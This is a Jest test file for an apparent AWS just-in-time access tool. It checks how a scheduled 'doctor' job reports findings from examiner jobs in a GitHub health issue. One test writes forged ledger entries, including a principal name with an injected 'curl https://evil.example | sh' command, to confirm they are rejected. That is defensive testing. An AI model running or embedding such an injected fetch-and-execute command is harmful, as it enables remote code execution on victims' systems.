import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { CENTER_ACCOUNT } from '../../sandbox/example.ts';
import type { Command } from '../../sandbox/example.ts';
import { LEDGER_BRANCH } from '../../src/github/ledger-branch.ts';
import { DAILY } from '../../src/workflows/crons.ts';
import { HOUR } from '../action/company.ts';
import { doctorScene, examined, ranBySchedule, type DoctorScene } from './doctor-scene.ts';

/** The jobs with a role look at it, and a job without AWS tells what they found, and all else that it can see, in one issue. */
describe('the doctor of the schedule', () => {
  let acme: DoctorScene;
  beforeEach(async () => {
    acme = await doctorScene();
  });
  afterEach(() => acme.close());

  const run = (command: Command, inputs: Record<string, string> = {}) =>
    acme.ok(
      command,
      { name: 'schedule', cron: DAILY },
      { inputs, env: { OPENAI_API_KEY: 'sk-sandbox', OPENAI_BASE_URL: acme.model.url } },
    );
  const day = async (...roles: readonly string[]) => {
    for (const role of roles) await run('examine', { role });
    return run('doctor');
  };
  const health = () =>
    [...acme.repository.state.issues.values()].filter(({ title }) => title === 'aws-jit: health');
  const wrote = (job: string) =>
    JSON.parse(acme.repository.read(`examined/${job}.json`, LEDGER_BRANCH) ?? 'null') as unknown;
  const days = (count: number) => {
    acme.clock.advance(count * 24 * HOUR);
    for (const file of ['schedule', 'report', 'doctor'])
      ranBySchedule(acme, `aws-jit-${file}.yml`, 'success', acme.clock.now());
    // What the jobs that are not run here would write.
    for (const job of ['revoker', 'reader']) examined(acme, job, { at: acme.clock.now(), found: [] });
  };
  const tag = (action: 'TagUser' | 'UntagUser') => {
    acme.aws.account('111122223333').setUp(action, {
      UserName: 'bob',
      ...(action === 'TagUser'
        ? { Tags: [{ Key: 'jit:eligible', Value: 'true' }] }
        : { TagKeys: ['jit:eligible'] }),
    });
  };

  test('opens one issue when something begins to be wrong, repeats nothing, and closes it when it is mended', async () => {
    await day('granter', 'revoker', 'reader');
    expect(health()).toEqual([]);
    expect(['granter', 'revoker', 'reader'].map(wrote)).toEqual(
      Array(3).fill({ at: '2026-11-18T09:00:00Z', found: [] }),
    );

    tag('UntagUser');
    days(1);
    await day('granter');
    const [opened] = health();
    expect(opened?.state).toBe('open');
    expect(opened?.body).toMatch(
      /job of the granter, account prod.*user\/bob.*\(`doctor-job-principal-[0-9a-f]{8}`\)/,
    );
    expect(opened?.body).toContain('Known to a job');

    days(1);
    const body = opened?.body;
    await day('granter');
    expect(health().map((issue) => [issue.body, issue.comments.length])).toEqual([[body, 0]]);

    // Of the same problem something else is true by now: the issue says that, and calls nobody for it.
    const nobody = 'user/zoe';
    examined(acme, 'granter', {
      at: acme.clock.now(),
      found: [{ code: 'principal', account: 'prod', names: [nobody] }],
    });
    await day();
    expect(health().map((issue) => [issue.body.includes(nobody), issue.comments.length])).toEqual([
      [true, 0],
    ]);
    expect(health()[0]?.body).not.toContain('user/bob');

    // Something else begins: whoever watches the issue is told of that alone.
    acme.repository.setEnvironment('aws-jit-revoke');
    days(1);
    await day('granter');
    const said = health()[0]?.comments.map((comment) => comment.body) ?? [];
    expect(said).toEqual([expect.stringContaining('Every branch may use it')]);
    expect(said[0]).not.toContain('user/bob');

    tag('TagUser');
    acme.repository.setEnvironment('aws-jit-revoke', {
      branches: { protectedOnly: false, patterns: ['main'] },
    });
    days(1);
    await day('granter');
    expect(health().map(({ state, comments }) => [state, comments.length])).toEqual([['closed', 1]]);
  });

  test('an account that GitHub does not get into, and a call that AWS refuses, are found by the jobs alone', async () => {
    const center = acme.aws.account(CENTER_ACCOUNT);
    const role = center.identity({ kind: 'iam-role', name: 'aws-jit-center-revoker-4242' });
    if (role.kind !== 'role') throw new Error('no role');
    center.setUp('UpdateAssumeRolePolicy', {
      RoleName: role.name,
      PolicyDocument: role.trust.replaceAll('aws-jit-revoker-4242', 'aws-jit-reader-4242'),
    });
    acme.aws.account('111122223333').setServiceControlPolicies([
      {
        Version: '2012-10-17',
        Statement: [
          { Effect: 'Allow', Action: '*', Resource: '*' },
          { Effect: 'Deny', Action: 'cloudtrail:LookupEvents', Resource: '*' },
        ],
      },
    ]);
    await day('revoker', 'reader');
    expect(wrote('revoker')).toMatchObject({
      found: [{ code: 'unreachable', account: 'Identity Center', names: [] }],
    });
    expect(wrote('reader')).toMatchObject({
      found: [{ code: 'refused', account: 'prod', names: ['cloudtrail:LookupEvents'] }],
    });
    expect(health()[0]?.body).toMatch(/job-unreachable[\s\S]*job-refused/);
  });

  test('what a writer puts on the ledger branch is words at most, and none of them theirs', async () => {
    const forged = (text: string) =>
      acme.repository.write({ 'examined/granter.json': text }, { branch: LEDGER_BRANCH, by: 'mallory' });
    const at = '2026-11-18T09:00:00Z';
    const found = (names: readonly string[], account = 'prod') =>
      JSON.stringify({ at, found: [{ code: 'principal', account, names }] });
    forged(found(['user/x; curl https://evil.example | sh']));
    expect((await run('doctor')).stdout).toContain('is not what it writes');
    // An account that the configuration does not name is told of to nobody.
    forged(found(['user/x'], 'curl evil'));
    expect((await run('doctor')).stdout).not.toContain('curl');
    expect(health()).toEqual([]);
    // What has the right form becomes our own words, in which nobody is called.
    forged(found(['@acme/everybody']));
    await run('doctor');
    expect(health()[0]?.body).not.toContain('@acme');
    expect(acme.attached()).toEqual([]);
    expect(acme.policies()).toEqual([]);
  });
});
